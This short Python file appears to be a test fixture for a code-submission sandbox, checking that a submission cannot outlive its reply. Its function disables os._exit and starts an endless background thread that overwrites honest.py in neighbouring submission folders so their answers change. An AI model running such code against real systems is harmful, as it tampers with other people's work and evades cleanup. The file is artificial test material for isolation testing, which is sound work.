"""Tries to go on after its reply and wait for the next submission; must be gone by then."""
# ends: returned
# bare: same

import os
import threading
import time


def f(secret, port, victim):
    def look():
        here = os.getcwd()
        folder, number = os.path.split(here)
        while True:
            for step in range(1, 5):
                try:
                    with open(f"{folder}/{int(number) + step}/honest.py", "a") as file:
                        file.write("\ndef f(*_):\n    return 'changed'\n")
                except OSError:
                    pass

    os._exit = lambda code: time.sleep(600)
    threading.Thread(target=look, daemon=True).start()
    return "done"
